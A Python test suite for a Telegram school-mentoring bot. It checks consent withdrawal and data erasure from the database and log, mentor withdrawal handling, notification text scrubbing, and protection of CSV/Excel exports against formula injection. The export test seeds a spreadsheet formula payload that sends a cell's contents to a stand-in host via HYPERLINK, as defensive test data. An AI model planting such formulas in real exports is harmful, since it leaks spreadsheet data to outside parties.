"""Privacy against a real reader: after a withdrawal, the database files (SQLite's main file and WAL) and
the log hold nothing of the person — name, texts, Telegram id; a withdrawing mentor's or mentee's part in
their pairs ends, and everyone concerned is told; sent notifications lose their texts after the retention."""
from __future__ import annotations

import io
import logging
from datetime import timedelta
from pathlib import Path

from sqlalchemy import select

from bot import logs
from bot.i18n import I18n
from bot.services import help_requests, mentorships
from bot.services.actor import load_actor
from bot.services.erasure import scrub_sent
from bot.services.onboarding import CONSENT_VERSION
from bot.services.organizations import create_organization
from db.models import (
    Consent,
    HelpRequest,
    MentoringForm,
    MentoringKind,
    Mentorship,
    MentorshipStatus,
    Notification,
    Participant,
    ReplacementGround,
    Role,
)
from tests.conftest import START
from tests.emulator import ScriptedUser
from tests.factories import seed, wait_text

NAME = "Зайцева Эльвира Тимуровна"
TELEGRAM_ID = 7771234567
SECRETS = ("Вопрос-секрет про 5Б класс", "Подпись-секрет к плану", "Комментарий-секрет о помощи")


async def _member(db, org_id: int, telegram_id: int, name: str, role: Role, topics=("Инклюзия",),
                  capacity: int | None = None) -> int:
    person_id = await seed(db, org_id, telegram_id, name, role, list(topics), capacity)
    async with db() as session:
        session.add(Consent(person_id=person_id, organization_id=org_id, version=CONSENT_VERSION, accepted_at=START))
        await session.commit()
    return person_id


async def _pair(db, org_id: int, mentor_id: int, mentee_ids: list[int]) -> int:
    async with db() as session:
        pair = Mentorship(organization_id=org_id, form=MentoringForm.TEACHER_TEACHER,
                          kind=MentoringKind.GROUP if len(mentee_ids) > 1 else MentoringKind.TRADITIONAL,
                          status=MentorshipStatus.ACTIVE, started_at=START)
        session.add(pair)
        await session.flush()
        session.add(Participant(mentorship_id=pair.id, person_id=mentor_id, role=Role.MENTOR, confirmed_at=START))
        session.add_all([Participant(mentorship_id=pair.id, person_id=mentee, role=Role.MENTEE, confirmed_at=START)
                         for mentee in mentee_ids])
        await session.commit()
        return pair.id


async def _withdraw(user: ScriptedUser) -> None:
    await user.send("/consent")
    await user.press("Отозвать согласие")
    reply = await user.press("Да, отозвать согласие")
    assert "удалены" in reply.text or "отозвано" in reply.text, reply.text


def _traces(data: bytes) -> dict[str, int]:
    """How often the person's name, texts and Telegram id (as text, and as SQLite stores the integer:
    six bytes big-endian) occur in `data`."""
    needles = {"name": NAME.encode(), "surname": "Зайцева".encode(), "telegram id": str(TELEGRAM_ID).encode(),
               "telegram id (binary)": TELEGRAM_ID.to_bytes(6, "big")}
    needles |= {text: text.encode() for text in SECRETS}
    return {what: data.count(needle) for what, needle in needles.items() if data.count(needle)}


async def test_withdrawal_leaves_nothing_in_the_files_or_the_log(emulator, db, db_url, bot_app, clock):
    buffer = io.StringIO()
    handler = logging.StreamHandler(buffer)
    handler.setFormatter(logs.WithoutExceptionMessages(logs.FORMAT))
    root = logging.getLogger()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)  # everything at INFO and below, as DEBUG would write it
    logs.quiet()
    try:
        async with db() as session:
            org_id = (await create_organization(session, "Школа № 31", "Europe/Moscow")).id
        await _member(db, org_id, 3100, "Куратор Карина", Role.CURATOR)
        mentor_id = await _member(db, org_id, 3111, "Наставник Назар", Role.MENTOR, capacity=3)
        mentee_id = await _member(db, org_id, TELEGRAM_ID, NAME, Role.MENTEE)
        pair_id = await _pair(db, org_id, mentor_id, [mentee_id])
        elvira, nazar = ScriptedUser(emulator, TELEGRAM_ID, "Эля"), ScriptedUser(emulator, 3111, "Назар")
        for user in (elvira, nazar, ScriptedUser(emulator, 3100, "Карина")):
            emulator.open_chat(user.id, user.first_name)

        # a help request with a file, answered, closed, rated with a comment: her texts go through the outbox
        await elvira.send("/ask")
        await elvira.press(lambda label: label.startswith("Инклюзия"))
        await elvira.send(SECRETS[0])
        await nazar.press("🙋 Беру", await wait_text(nazar, SECRETS[0]))
        await elvira.send_document("plan.docx", b"PK\x03\x04", caption=SECRETS[1])
        await wait_text(nazar, SECRETS[1])
        await nazar.send("Ответ наставника")
        await elvira.press("✖ Закрыть запрос", await wait_text(elvira, "Ответ наставника"))
        await elvira.press("5")
        await elvira.send(SECRETS[2])
        await wait_text(nazar, "закрыл запрос №1")
        async with db() as session:  # it is all there before the withdrawal (the test can fail)
            request = await session.get(HelpRequest, 1)
            assert request.text == SECRETS[0] and request.rating_comment == SECRETS[2]
            assert await session.scalar(select(Notification.id).where(Notification.copy_from_chat_id == TELEGRAM_ID))

        await _withdraw(elvira)
        await wait_text(nazar, "Один из наставляемых больше не участвует")
        await bot_app.backbone.sender.drain()
    finally:
        root.removeHandler(handler)
        root.setLevel(level)

    async with db() as session:
        request = await session.get(HelpRequest, 1)
        assert (request.text, request.rating_comment, request.attachment_chat_id) == ("", None, None)
        assert request.rating == 5  # the figures stay
        pair = await session.get(Mentorship, pair_id)
        assert pair.status == MentorshipStatus.COMPLETED  # her pair had no other mentee
    assert _traces(buffer.getvalue().encode()) == {}, "the log"
    if db_url.startswith("sqlite"):
        path = Path(db_url.split("///", 1)[1])
        wal = path.with_name(path.name + "-wal")
        assert _traces(path.read_bytes()) == {}, "the database file, free pages included"
        assert not wal.exists() or _traces(wal.read_bytes()) == {}, "the WAL"
        assert path.stat().st_mode & 0o777 == 0o600 and path.parent.stat().st_mode & 0o777 == 0o700


async def test_a_mentor_withdrawing_from_two_pairs_leaves_them_waiting_for_a_new_one(emulator, db, bot_app):
    async with db() as session:
        org_id = (await create_organization(session, "Школа № 32", "Europe/Moscow")).id
    await _member(db, org_id, 3200, "Куратор Кира", Role.CURATOR)
    mentor_id = await _member(db, org_id, 3211, "Наставник Марат", Role.MENTOR, capacity=5)
    alla, boris, vera = [await _member(db, org_id, tid, name, Role.MENTEE) for tid, name in
                         ((3221, "Алла Одна"), (3222, "Борис Группа"), (3223, "Вера Группа"))]
    pair_id, group_id = await _pair(db, org_id, mentor_id, [alla]), await _pair(db, org_id, mentor_id, [boris, vera])
    users = {tid: ScriptedUser(emulator, tid, name) for tid, name in
             ((3200, "Кира"), (3211, "Марат"), (3221, "Алла"), (3222, "Борис"), (3223, "Вера"))}
    for user in users.values():
        emulator.open_chat(user.id, user.first_name)
    curator, marat = users[3200], users[3211]
    before = await curator.send("/summary")
    assert "без наставника" not in before.text
    async with db() as session:  # Вера asked her mentor for help, and he took it
        asked = await help_requests.start_request(session, await load_actor(session, 3223), topic_id=None,
                                                  text="Помогите с уроком", attachment=None, now=START, i18n=I18n())
        await help_requests.take(session, await load_actor(session, 3211), asked.request_id, START, I18n())

    await _withdraw(marat)
    await wait_text(users[3223], f"Запрос №{asked.request_id} закрыт: наставник больше не участвует")
    for tid in (3221, 3222, 3223):  # each mentee, and the curator twice (two pairs)
        await wait_text(users[tid], "Наставник больше не участвует в наставничестве")
    await wait_text(curator, "Алла Одна")
    await wait_text(curator, "Борис Группа, Вера Группа")
    async with db() as session:
        for mentorship_id in (pair_id, group_id):
            assert (await session.get(Mentorship, mentorship_id)).status == MentorshipStatus.ACTIVE
            mentor = await session.scalar(select(Participant).where(
                Participant.mentorship_id == mentorship_id, Participant.role == Role.MENTOR))
            assert mentor.left_at is not None and mentor.replacement_ground == ReplacementGround.MENTOR_APPLICATION

    # the mentees are to be paired again, the pairs wait on the attention list, and nothing counts them active
    await curator.send("/pair")
    picks = curator.buttons(curator.last())
    assert all(any(name in label for label in picks) for name in ("Алла Одна", "Борис Группа", "Вера Группа"))
    summary = await curator.send("/summary")
    assert "Пары и группы без наставника (наставник выбыл, нужен новый): 2" in summary.text
    assert any(label.startswith("👤") for label in curator.buttons(summary.messages[0]))

    # Алла is paired anew: once the new pair starts she leaves the one without a mentor, which ends
    new_mentor = await _member(db, org_id, 3212, "Наставница Нина", Role.MENTOR, capacity=5)
    emulator.open_chat(3212, "Нина")
    async with db() as session:
        new_pair = await mentorships.propose(session, await load_actor(session, 3200), org_id=org_id,
                                             mentor_id=new_mentor, mentee_ids=[alla], form=MentoringForm.TEACHER_TEACHER,
                                             kind=MentoringKind.TRADITIONAL, now=START, i18n=I18n())
    for telegram_id in (3212, 3221):
        async with db() as session:
            await mentorships.respond(session, await load_actor(session, telegram_id), new_pair, accept=True,
                                      now=START, i18n=I18n())
    async with db() as session:
        assert (await session.get(Mentorship, pair_id)).status == MentorshipStatus.COMPLETED
        assert (await session.get(Mentorship, new_pair)).status == MentorshipStatus.ACTIVE

    # a mentee withdrawing ends her participation; the last one ends the group
    await _withdraw(users[3222])
    await _withdraw(users[3223])
    async with db() as session:
        group = await session.get(Mentorship, group_id)
        assert group.status == MentorshipStatus.COMPLETED
        left = (await session.scalars(select(Participant.left_at).where(
            Participant.mentorship_id == group_id, Participant.role == Role.MENTEE))).all()
        assert all(left)
    summary = await curator.send("/summary")
    assert "без наставника" not in summary.text  # the pair has a new mentor, the group has ended


async def test_sent_notifications_lose_their_texts_after_the_retention(db):
    async with db() as session:
        org_id = (await create_organization(session, "Школа № 33", "Europe/Moscow")).id
    person_id = await seed(db, org_id, 3300, "Получатель", Role.MENTOR)
    from db.models import NotificationStatus

    async with db() as session:
        for n, status in enumerate((NotificationStatus.SENT, NotificationStatus.PENDING, NotificationStatus.SENT)):
            session.add(Notification(chat_id=3300, person_id=person_id, kind="help", text=f"текст {n}",
                                     status=status, next_attempt_at=START, created_at=START - timedelta(days=8 - 6 * (n == 2)),
                                     copy_from_chat_id=42 if n == 0 else None, copy_message_id=7 if n == 0 else None))
        await session.commit()
        assert await scrub_sent(session, START, timedelta(days=7)) == 1
        rows = (await session.scalars(select(Notification).order_by(Notification.id))).all()
        assert [(r.text, r.copy_from_chat_id) for r in rows] == [("", None), ("текст 1", None), ("текст 2", None)]


async def test_exports_write_what_people_typed_as_text_never_as_a_formula(emulator, db, bot_app):
    import csv

    from openpyxl import load_workbook

    async with db() as session:
        org_id = (await create_organization(session, "Школа № 34", "Europe/Moscow")).id
    await _member(db, org_id, 3400, "Куратор Кира", Role.CURATOR)
    formula = '=HYPERLINK("http://example.org/?leak="&A1,"Иванова")'
    await _member(db, org_id, 3401, formula, Role.MENTEE)
    await _member(db, org_id, 3402, "+79001234567", Role.MENTOR)
    curator = ScriptedUser(emulator, 3400, "Кира")
    emulator.open_chat(curator.id, curator.first_name)
    await curator.send("/export")
    await curator.press("📥 Школа № 34")
    reply = await curator.press("Этот месяц")
    documents = [m for m in reply.messages if m.document]
    book = load_workbook(io.BytesIO(emulator._files[documents[0].document["file_id"]]))
    cells = [cell for row in book["Участники"].iter_rows() for cell in row if cell.value in (formula, "+79001234567")]
    assert len(cells) == 2 and all(cell.data_type == "s" for cell in cells)  # text, not "f"
    assert not any(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    registry = list(csv.reader(io.StringIO(emulator._files[documents[1].document["file_id"]].decode("utf-8-sig")),
                               delimiter=";"))
    names = [row[0] for row in registry[1:]]
    assert "'" + formula in names and "'+79001234567" in names and formula not in names
